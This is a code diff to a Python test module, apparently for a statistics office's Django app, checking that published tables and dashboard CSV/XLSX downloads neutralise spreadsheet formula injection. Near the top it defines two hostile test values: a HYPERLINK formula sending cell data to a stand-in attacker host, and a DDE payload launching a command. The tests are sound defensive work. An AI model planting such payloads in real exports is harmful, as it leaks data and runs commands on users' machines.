@@ -15,14 +15,9 @@ from departments import services, uploads
 from statistics_office.intake import versions
 from statistics_office.microdata import reports, store
 from tests import factories
-from tests.dashboards.conftest import (  # noqa: F401 (fixtures)
-    GESCHLECHT,
-    STADTTEIL,
-    empty_cache,
-    make_dashboard,
-    publish,
-    sex_cells,
-)
+from tests.factories import GESCHLECHT, STADTTEIL, sex_cells
+
+pytestmark = pytest.mark.usefixtures("empty_cache")
 
 EVIL = '=HYPERLINK("http://angreifer.example/?d="&A1,"Hilfe")'
 EVIL_AT = "@SUMME(1+1)*cmd|' /C calc'!A0"
@@ -78,7 +73,7 @@ def assert_defused(values):
 
 
 @pytest.fixture
-def evil_table(publish):  # noqa: F811
+def evil_table(publish):
     stadtteil = {**STADTTEIL, "labels": {**STADTTEIL["labels"], "01": EVIL}}
     return publish("formel", sex_cells(), [stadtteil, GESCHLECHT], title=EVIL_AT)
 
@@ -108,7 +103,7 @@ def test_published_table_api_csv_defuses_formulas(client, staff, evil_table):
 
 @pytest.mark.django_db
 @pytest.mark.parametrize("fmt", ["csv", "xlsx"])
-def test_dashboard_downloads_defuse_formulas(client, staff, evil_table, make_dashboard, fmt):  # noqa: F811
+def test_dashboard_downloads_defuse_formulas(client, staff, evil_table, make_dashboard, fmt):
     board = make_dashboard(
         "formel",
         widgets=[{"title": EVIL_AT, "kind": "bar", "table": evil_table.definition}],
